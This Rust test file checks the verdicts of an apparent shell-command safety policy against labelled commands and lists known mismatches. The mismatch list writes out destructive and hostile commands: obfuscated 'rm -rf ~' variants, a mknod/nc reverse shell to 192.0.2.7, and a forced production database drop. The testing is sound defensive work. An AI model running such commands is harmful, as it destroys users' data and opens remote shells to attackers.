//! The labelled commands: each gets its verdict, but for those that are named here.

mod support;

use gatehouse_policy::Verdict;
use support::{Labelled, afresh, analyse, anew, apart, blind, codes, labelled, unseen, wide};

/// Commands whose verdict is not that of their label, and why that is borne.
const BORNE: &[(&str, &str)] = &[
    (
        "tox -e py311",
        "it may install what the project names, as any other of its tasks may",
    ),
    (
        "env X='rm -rf ~' sh -c 'eval $X'",
        "what env sets is not handed on to the shell that it starts; it asks",
    ),
    (
        "${SHELL:+rm} -rf ~",
        "whether a variable of the machine is set is not known; it asks",
    ),
    (
        "mknod p p; sh <p | nc 192.0.2.7 4444 >p",
        "a pipe that mknod makes is not followed as that of mkfifo is; it asks",
    ),
    (
        "RAILS_ENV=production rails db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1",
        "what a task does with a variable is the project's own; it asks",
    ),
];

#[test]
fn labelled_commands_get_their_verdict() {
    check(&labelled());
}

#[test]
fn commands_that_nobody_wrote_a_rule_for_get_theirs_too() {
    check(&unseen());
}

#[test]
fn a_wide_field_of_commands_gets_its_verdicts() {
    check(&wide());
}

#[test]
fn commands_that_were_labelled_afresh_get_their_verdicts() {
    check(&afresh());
}

#[test]
fn commands_that_were_labelled_from_the_documents_get_their_verdicts() {
    check(&blind());
}

#[test]
fn commands_that_were_labelled_apart_from_all_others_get_their_verdicts() {
    check(&apart());
}

#[test]
fn commands_that_were_labelled_anew_get_their_verdicts() {
    check(&anew());
}

#[test]
fn a_difference_that_is_borne_is_one() {
    let all = [
        labelled(),
        unseen(),
        wide(),
        afresh(),
        blind(),
        apart(),
        anew(),
    ]
    .concat();
    for (command, why) in BORNE {
        let line = all.iter().find(|line| line.command == *command);
        let line = line.unwrap_or_else(|| panic!("{command:?} is not labelled"));
        assert_ne!(
            analyse(command).verdict,
            line.verdict,
            "{command:?} has its verdict and need not be borne any more ({why})"
        );
        assert!(
            line.verdict != Verdict::Allow && analyse(command).verdict != Verdict::Deny,
            "{command:?} is harmless: it may not be held"
        );
    }
}

fn check(all: &[Labelled]) {
    let borne = |line: &Labelled| BORNE.iter().any(|(command, _)| *command == line.command);
    let mut differences = Vec::new();
    for line in all.iter().filter(|line| !borne(line)) {
        let analysis = analyse(&line.command);
        if analysis.verdict == line.verdict {
            continue;
        }
        let shown: String = line.command.chars().take(120).collect();
        differences.push(format!(
            "{shown:?}\n    is {:?}, not {:?} ({})\n    {:?}",
            analysis.verdict,
            line.verdict,
            line.why,
            codes(&analysis)
        ));
    }
    assert!(
        differences.is_empty(),
        "{} of {} have another verdict than their label, and are not named as such:\n{}",
        differences.len(),
        all.len(),
        differences.join("\n")
    );
}
